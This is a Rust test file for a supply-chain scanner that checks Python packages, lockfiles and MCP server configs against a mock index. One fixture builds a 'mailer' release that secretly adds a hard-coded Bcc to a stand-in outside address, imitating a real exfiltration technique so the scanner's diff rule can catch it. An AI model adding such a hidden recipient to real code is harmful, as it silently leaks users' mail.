//! Python packages from a Python package index (the mock index on
//! 127.0.0.1): `pypi:` specs, Python lockfiles and `uvx`/`pipx` MCP servers.
//! Every fixture package is inert.

mod common;

use std::process::Command;

use common::{Run, Sandbox, run};
use palisade_test::pypi::{MockIndex, sdist, sha256_hex, wheel};
use serde_json::Value;

/// A `palisade` command that sees only `index` (or no index at all):
/// no pip or uv files of the machine, no index variables but ours.
fn command(sandbox: &Sandbox, index: Option<&MockIndex>, args: &[&str]) -> Command {
    let mut cmd = sandbox.command(args);
    cmd.env("PIP_CONFIG_FILE", "/dev/null")
        .env("UV_NO_CONFIG", "1")
        .env_remove("UV_INDEX_URL")
        .env_remove("UV_DEFAULT_INDEX")
        .env_remove("XDG_CONFIG_HOME");
    match index {
        Some(index) => cmd.env("PIP_INDEX_URL", index.simple_url()),
        None => cmd.env_remove("PIP_INDEX_URL"),
    };
    cmd
}

/// `demo` 1.0 (sdist and pure wheel) and 1.1 (sdist), `helper` 2.0.
fn index() -> MockIndex {
    let index = MockIndex::start();
    let code: &[(&str, &[u8])] = &[
        (
            "setup.py",
            b"from setuptools import setup\nsetup(name='demo')\n",
        ),
        ("demo/__init__.py", b"def add(a, b):\n    return a + b\n"),
    ];
    index.publish("demo", "1.0", sdist("demo", "1.0", code));
    index.publish_wheel(
        "demo",
        "1.0",
        wheel(
            "demo",
            "1.0",
            &[("demo/__init__.py", b"def add(a, b):\n    return a + b\n")],
        ),
    );
    index.publish("demo", "1.1", sdist("demo", "1.1", code));
    index.publish(
        "helper",
        "2.0",
        sdist("helper", "2.0", &[("helper/__init__.py", b"VALUE = 2\n")]),
    );
    index
}

fn packages(r: &Run) -> Vec<Value> {
    r.json()["packages"].as_array().cloned().unwrap_or_default()
}

fn by_name<'a>(packages: &'a [Value], name: &str) -> &'a Value {
    packages
        .iter()
        .find(|p| p["name"] == name)
        .unwrap_or_else(|| panic!("no `{name}` in {packages:#?}"))
}

/// The server `name` of an `mcp scan` report.
fn server<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["servers"]
        .as_array()
        .and_then(|servers| servers.iter().find(|s| s["name"] == name))
        .unwrap_or_else(|| panic!("no server `{name}`: {report:#}"))
}

fn rules(package: &Value) -> Vec<String> {
    common::rules_of(package)
}

#[test]
fn scan_a_pinned_spec_reads_sdist_and_wheel() {
    let index = index();
    let sandbox = Sandbox::new();
    let r = run(command(
        &sandbox,
        Some(&index),
        &["scan", "pypi:demo==1.0", "--format", "json"],
    ));
    r.assert_code(0);
    let report = r.json();
    let package = common::only_package(&report);
    assert_eq!(package["name"], "demo");
    assert_eq!(package["version"], "1.0");
    assert_eq!(package["verdict"], "clean", "{package:#}");
    assert_eq!(
        package["source"],
        "pypi:demo==1.0 (demo-1.0.tar.gz + demo-1.0-py3-none-any.whl)"
    );
    let files: Vec<String> = index
        .requests()
        .into_iter()
        .filter(|p| p.starts_with("/files/"))
        .collect();
    assert_eq!(files.len(), 2, "{files:?}");
}

#[test]
fn scan_an_unpinned_spec_takes_the_latest() {
    let index = index();
    let sandbox = Sandbox::new();
    let r = run(command(
        &sandbox,
        Some(&index),
        &[
            "scan",
            "pypi:demo",
            "--format",
            "json",
            "--index-url",
            &index.simple_url(),
        ],
    ));
    r.assert_code(0);
    let report = r.json();
    let package = common::only_package(&report);
    assert_eq!(package["version"], "1.1");
    assert_eq!(
        package["source"],
        "pypi:demo==1.1 (demo-1.1.tar.gz) (latest)"
    );
}

#[test]
fn no_index_configured_is_a_clear_error() {
    let sandbox = Sandbox::new();
    let r = run(command(&sandbox, None, &["scan", "pypi:demo==1.0"]));
    r.assert_code(2);
    assert!(
        r.stderr.contains("no Python package index is configured"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("PIP_INDEX_URL"), "{}", r.stderr);
}

#[test]
fn a_file_that_fails_its_hash_is_an_error() {
    let index = index();
    index.corrupt("demo-1.1.tar.gz");
    let sandbox = Sandbox::new();
    let r = run(command(&sandbox, Some(&index), &["scan", "pypi:demo==1.1"]));
    r.assert_code(2);
    assert!(r.stderr.contains("sha256 check failed"), "{}", r.stderr);
}

#[test]
fn requirements_txt_pins_hashes_and_unpinned_lines() {
    let index = index();
    let helper = sha256_hex(&sdist(
        "helper",
        "2.0",
        &[("helper/__init__.py", b"VALUE = 2\n")],
    ));
    let sandbox = Sandbox::new();
    let work = sandbox.work();
    let wrong = "0".repeat(64);
    std::fs::write(
        work.join("requirements.txt"),
        format!(
            "# app\nhelper==2.0 --hash=sha256:{helper}\n-r requirements-dev.txt\n\
             requests>=2\n-e git+https://git.invalid/x/y.git#egg=ydemo\n"
        ),
    )
    .expect("write");
    std::fs::write(
        work.join("requirements-dev.txt"),
        format!("demo==1.0 \\\n    --hash=sha256:{wrong}\n"),
    )
    .expect("write");
    let r = run(command(
        &sandbox,
        Some(&index),
        &["scan", "requirements.txt", "--format", "json"],
    ));
    // The hash mismatch is high: suspicious at least, not over `--fail-on malicious`.
    let all = packages(&r);
    assert_eq!(all.len(), 4, "{all:#?}\n{}", r.stderr);
    let helper = by_name(&all, "helper");
    assert_eq!(helper["verdict"], "clean", "{helper:#}");
    assert_eq!(
        helper["dependency_path"],
        serde_json::json!(["work", "helper"])
    );
    let demo = by_name(&all, "demo");
    assert!(
        rules(demo).contains(&"lockfile/integrity-mismatch".to_owned()),
        "{demo:#}"
    );
    assert!(rules(by_name(&all, "requests")).contains(&"lockfile/unpinned-requirement".to_owned()));
    assert!(rules(by_name(&all, "ydemo")).contains(&"lockfile/non-registry-source".to_owned()));
}

#[test]
fn a_folder_with_uv_lock_is_a_project() {
    let index = index();
    let bytes = sdist(
        "demo",
        "1.0",
        &[
            (
                "setup.py",
                b"from setuptools import setup\nsetup(name='demo')\n",
            ),
            ("demo/__init__.py", b"def add(a, b):\n    return a + b\n"),
        ],
    );
    let sandbox = Sandbox::new();
    let work = sandbox.work();
    std::fs::write(
        work.join("uv.lock"),
        format!(
            "version = 1\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\n\
             source = {{ virtual = \".\" }}\n\n[[package]]\nname = \"demo\"\nversion = \"1.0\"\n\
             source = {{ registry = \"{url}\" }}\n\
             sdist = {{ url = \"{url}/../files/demo-1.0.tar.gz\", hash = \"sha256:{hash}\" }}\n",
            url = index.simple_url(),
            hash = sha256_hex(&bytes),
        ),
    )
    .expect("write");
    let r = run(command(
        &sandbox,
        Some(&index),
        &["scan", ".", "--format", "json"],
    ));
    r.assert_code(0);
    let all = packages(&r);
    assert_eq!(all.len(), 1, "{all:#?}");
    // Only the file the lockfile allows is analysed: the sdist, not the wheel.
    assert_eq!(all[0]["source"], "pypi:demo==1.0 (demo-1.0.tar.gz)");
}

#[test]
fn mcp_scan_fetches_uvx_and_pipx_servers() {
    let index = index();
    let sandbox = Sandbox::new();
    let config = sandbox.dir.path().join("mcp.json");
    std::fs::write(
        &config,
        r#"{"mcpServers": {
            "pinned": {"command": "uvx", "args": ["demo==1.0"]},
            "latest": {"command": "pipx", "args": ["run", "demo"]},
            "module": {"command": "python3", "args": ["-m", "demo"]}
        }}"#,
    )
    .expect("write");
    let path = config.display().to_string();
    let r = run(command(
        &sandbox,
        Some(&index),
        &["mcp", "scan", "--config", &path, "--format", "json"],
    ));
    let report = r.json();
    let server = |name: &str| server(&report, name);
    let pinned = server("pinned");
    assert_eq!(
        pinned["scanned"]["note"], "the pinned version",
        "{pinned:#}"
    );
    assert_eq!(pinned["package"]["version"], "1.0");
    let latest = server("latest");
    assert_eq!(latest["package"]["version"], "1.1", "{latest:#}");
    assert!(
        latest["scanned"]["note"]
            .as_str()
            .unwrap_or_default()
            .contains("resolves today to 1.1"),
        "{latest:#}"
    );
    assert!(server("module")["scanned"].is_null());
    assert!(server("module")["not_analysed"].is_string());
}

/// The postmark technique in Python: a release that adds a hard-coded Bcc
/// to the mail its tool sends. The diff against the release before names
/// the new recipient; `--no-diff` leaves it out.
#[test]
fn a_release_is_compared_with_the_one_before() {
    let index = MockIndex::start();
    let send = |extra: &str| {
        format!(
            "import smtplib\nfrom email.message import EmailMessage\n\n\
             def send_email(to, subject, body):\n    msg = EmailMessage()\n    msg['To'] = to\n{extra}    \
             msg['Subject'] = subject\n    msg.set_content(body)\n    \
             with smtplib.SMTP('127.0.0.1') as s:\n        s.send_message(msg)\n"
        )
    };
    let clean = send("");
    let bcc = send("    msg['Bcc'] = 'copy@giftshop.invalid'\n");
    index.publish(
        "mailer",
        "1.0",
        sdist("mailer", "1.0", &[("mailer/__init__.py", clean.as_bytes())]),
    );
    index.publish(
        "mailer",
        "1.0.1",
        sdist("mailer", "1.0.1", &[("mailer/__init__.py", bcc.as_bytes())]),
    );
    let sandbox = Sandbox::new();
    let r = run(command(
        &sandbox,
        Some(&index),
        &["scan", "pypi:mailer==1.0.1", "--format", "json"],
    ));
    let report = r.json();
    let package = common::only_package(&report);
    let fired = rules(package);
    assert!(
        fired.iter().any(|r| r == "diff/new-email-recipient"),
        "{package:#}"
    );
    assert!(
        index
            .requests()
            .iter()
            .any(|p| p.starts_with("/files/") && p.contains("mailer-1.0.tar.gz")),
        "the previous release was not fetched: {:?}",
        index.requests()
    );

    let r = run(command(
        &sandbox,
        Some(&index),
        &["scan", "pypi:mailer==1.0", "--format", "json"],
    ));
    let report = r.json();
    let fired = rules(common::only_package(&report));
    assert!(
        fired.iter().any(|r| r == "diff/no-previous-version"),
        "{fired:?}"
    );

    let r = run(command(
        &sandbox,
        Some(&index),
        &[
            "scan",
            "pypi:mailer==1.0.1",
            "--no-diff",
            "--format",
            "json",
        ],
    ));
    let report = r.json();
    let fired = rules(common::only_package(&report));
    assert!(!fired.iter().any(|r| r.starts_with("diff/")), "{fired:?}");
}

/// The `metadata/` rules read the index's record: versions and upload
/// times. `helper` has one release; `demo` 1.1 follows 1.0.
#[test]
fn metadata_rules_read_the_index_record() {
    let index = index();
    let sandbox = Sandbox::new();
    let scan = |spec: &str, extra: &[&str]| {
        let mut args = vec!["scan", spec, "--format", "json"];
        args.extend_from_slice(extra);
        let r = run(command(&sandbox, Some(&index), &args));
        rules(common::only_package(&r.json()))
    };
    let helper = scan("pypi:helper==2.0", &[]);
    assert!(
        helper.iter().any(|r| r == "metadata/first-release"),
        "{helper:?}"
    );
    let demo = scan("pypi:demo==1.1", &[]);
    assert!(
        !demo.iter().any(|r| r == "metadata/first-release"),
        "{demo:?}"
    );
    // Uploaded in January: not recent.
    assert!(
        !demo.iter().any(|r| r == "metadata/recent-release"),
        "{demo:?}"
    );
    let quiet = scan("pypi:helper==2.0", &["--no-metadata"]);
    assert!(
        !quiet.iter().any(|r| r.starts_with("metadata/")),
        "{quiet:?}"
    );
}

/// Writes OSV malicious-package records for PyPI projects into the
/// sandbox and imports them into its store.
fn import_pypi_advisories(sandbox: &Sandbox, records: &[(&str, &str, Value)]) {
    let root = sandbox.dir.path().join("osv");
    for (id, name, affected) in records {
        let mut entry = serde_json::json!({ "package": { "ecosystem": "PyPI", "name": name } });
        if let (Some(entry), Some(extra)) = (entry.as_object_mut(), affected.as_object()) {
            entry.extend(extra.clone());
        }
        let record = serde_json::json!({
            "modified": "2025-06-01T12:00:00Z",
            "id": id,
            "summary": format!("Malicious code in {name} (PyPI)"),
            "affected": [entry],
        });
        let dir = root.join("malicious/pypi").join(name);
        std::fs::create_dir_all(&dir).expect("fixture folder");
        std::fs::write(
            dir.join(format!("{id}.json")),
            serde_json::to_vec(&record).expect("json"),
        )
        .expect("fixture record");
    }
    let import = run(command(
        sandbox,
        None,
        &["db", "import", root.to_str().expect("utf-8 path")],
    ));
    import.assert_code(0);
}

#[test]
fn a_release_named_by_a_pypi_advisory_is_malicious() {
    let index = index();
    let sandbox = Sandbox::new();
    import_pypi_advisories(
        &sandbox,
        &[
            // Listed as `1.0.0`, spelt differently: the same PEP 440 release
            // of the same normalised name.
            (
                "MAL-2025-7101",
                "Demo",
                serde_json::json!({ "versions": ["1.0.0"] }),
            ),
            (
                "MAL-2025-7102",
                "gone_pkg",
                serde_json::json!({ "ranges": [{ "type": "ECOSYSTEM", "events": [{ "introduced": "0" }] }] }),
            ),
        ],
    );
    let scan = |spec: &str| {
        run(command(
            &sandbox,
            Some(&index),
            &["scan", spec, "--format", "json"],
        ))
    };

    let named = scan("pypi:demo==1.0");
    named.assert_code(1);
    let report = named.json();
    let package = common::only_package(&report);
    assert_eq!(package["verdict"], "malicious", "{package:#}");
    assert!(
        rules(package).contains(&"known/malicious-advisory".to_owned()),
        "{package:#}"
    );
    assert!(package.to_string().contains("MAL-2025-7101"), "{package:#}");

    // Another release of the same project is analysed as usual.
    let other = scan("pypi:demo==1.1");
    other.assert_code(0);
    assert_eq!(common::only_package(&other.json())["verdict"], "clean");

    // A release the index no longer serves is still reported, from the
    // advisory alone.
    let gone = scan("pypi:gone-pkg==3.0");
    gone.assert_code(1);
    let report = gone.json();
    let package = common::only_package(&report);
    assert_eq!(package["verdict"], "malicious", "{package:#}");
    assert!(
        package.to_string().contains("was not analysed"),
        "{package:#}"
    );

    // So does a local sdist, by the name and version of its PKG-INFO.
    std::fs::write(
        sandbox.work().join("demo-1.0.tar.gz"),
        sdist("demo", "1.0", &[("demo/__init__.py", b"VALUE = 1\n")]),
    )
    .expect("write");
    let local = scan("demo-1.0.tar.gz");
    local.assert_code(1);
    let report = local.json();
    assert_eq!(
        common::only_package(&report)["verdict"],
        "malicious",
        "{report:#}"
    );

    // A lockfile pin goes through the same check.
    std::fs::write(
        sandbox.work().join("requirements.txt"),
        "demo==1.0\nhelper==2.0\n",
    )
    .expect("write");
    let project = scan("requirements.txt");
    project.assert_code(1);
    let packages = packages(&project);
    assert_eq!(by_name(&packages, "demo")["verdict"], "malicious");
    assert_eq!(by_name(&packages, "helper")["verdict"], "clean");
}

#[test]
fn mcp_scan_consults_pypi_advisories() {
    let index = index();
    let sandbox = Sandbox::new();
    import_pypi_advisories(
        &sandbox,
        &[
            (
                "MAL-2025-7301",
                "demo",
                serde_json::json!({ "versions": ["1.0"] }),
            ),
            (
                "MAL-2025-7302",
                "gone-pkg",
                serde_json::json!({ "ranges": [{ "type": "ECOSYSTEM", "events": [{ "introduced": "0" }] }] }),
            ),
        ],
    );
    let config = sandbox.dir.path().join("mcp.json");
    std::fs::write(
        &config,
        r#"{"mcpServers": {
            "named": {"command": "uvx", "args": ["demo==1.0"]},
            "gone": {"command": "uvx", "args": ["gone-pkg==3.0"]},
            "other": {"command": "uvx", "args": ["demo==1.1"]}
        }}"#,
    )
    .expect("write");
    let path = config.display().to_string();
    let r = run(command(
        &sandbox,
        Some(&index),
        &["mcp", "scan", "--config", &path, "--format", "json"],
    ));
    r.assert_code(1);
    let report = r.json();
    let server = |name: &str| server(&report, name);
    for (name, id) in [("named", "MAL-2025-7301"), ("gone", "MAL-2025-7302")] {
        let s = server(name);
        assert_eq!(s["verdict"], "malicious", "{s:#}");
        assert!(s.to_string().contains(id), "{s:#}");
    }
    assert_eq!(server("other")["verdict"], "clean");
}

#[test]
fn a_second_scan_of_a_release_comes_from_the_verdict_cache() {
    let index = index();
    let sandbox = Sandbox::new();
    let scan = |extra: &[&str]| {
        let mut args = vec!["scan", "pypi:demo==1.1", "--format", "json"];
        args.extend_from_slice(extra);
        let r = run(command(&sandbox, Some(&index), &args));
        r.assert_code(0);
        common::only_package(&r.json()).clone()
    };
    let first = scan(&[]);
    assert_ne!(first["cached"], true, "{first:#}");
    let files_before = index
        .requests()
        .iter()
        .filter(|p| p.starts_with("/files/"))
        .count();
    let second = scan(&[]);
    assert_eq!(second["cached"], true, "{second:#}");
    assert_eq!(second["verdict"], first["verdict"]);
    assert_eq!(second["source"], first["source"]);
    assert_eq!(rules(&second), rules(&first));
    // The files were not downloaded again.
    let files_after = index
        .requests()
        .iter()
        .filter(|p| p.starts_with("/files/"))
        .count();
    assert_eq!(files_after, files_before);
    // `--no-cache` analyses again.
    assert_ne!(scan(&["--no-cache"])["cached"], true);
}

#[test]
fn locked_releases_are_cached_too() {
    let index = index();
    let sandbox = Sandbox::new();
    std::fs::write(sandbox.work().join("requirements.txt"), "demo==1.0\n").expect("write");
    let scan = || {
        let r = run(command(
            &sandbox,
            Some(&index),
            &["scan", "requirements.txt", "--format", "json"],
        ));
        r.assert_code(0);
        by_name(&packages(&r), "demo").clone()
    };
    let first = scan();
    assert_ne!(first["cached"], true, "{first:#}");
    let second = scan();
    assert_eq!(second["cached"], true, "{second:#}");
    assert_eq!(second["verdict"], first["verdict"]);
}
